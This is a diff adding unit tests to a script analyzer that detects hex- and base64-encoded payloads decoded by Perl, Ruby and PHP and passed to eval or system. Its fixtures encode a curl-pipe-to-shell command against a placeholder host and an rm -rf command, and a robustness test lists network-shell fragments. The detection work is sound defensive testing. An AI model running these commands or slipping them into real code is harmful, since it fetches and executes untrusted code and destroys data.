@@ -102,6 +102,26 @@ describe('script analyzer: network and remote code', () => {
   });
 });
 
+describe('script analyzer: literals the language decodes', () => {
+  const hex = Buffer.from('curl -s https://x.test/f.sh | sh').toString('hex');
+  const b64 = Buffer.from('rm -rf ~/projects/old-build').toString('base64');
+
+  it('Perl pack("H*") is a hex decode whose text goes to the shell as decoded', () => {
+    const c = run(`print pack("H*", "${hex}");`);
+    assert.deepEqual(facts(c, 'decode').map((f) => [f.encoding, f.decoded, f.executed]), [['hex', 'curl -s https://x.test/f.sh | sh', false]]);
+    assert.deepEqual(c.nested, [{ text: 'curl -s https://x.test/f.sh | sh', lang: 'shell', line: 1, origin: 'decoded' }]);
+  });
+
+  it('Ruby pack and PHP base64_decode run by eval/system are executed', () => {
+    assert.deepEqual(facts(run(`system(["${hex}"].pack("H*"))`), 'decode').map((f) => f.executed), [true]);
+    assert.deepEqual(facts(run(`<?php eval(base64_decode('${b64}'));`), 'decode').map((f) => [f.encoding, f.executed]), [['base64', true]]);
+  });
+
+  it('a short hex constant is no payload', () => {
+    assert.deepEqual(facts(run('my $magic = pack("H*", "cafebabe");'), 'decode'), []);
+  });
+});
+
 describe('script analyzer: robustness', () => {
   it('never throws on odd input', () => {
     for (const text of ['', '"', "'''", '`', 'qx{', 'fsockopen(', '[socket', '/inet/tcp/0//', 'eval', '\u0000\uffff', 'x'.repeat(10_000)]) {
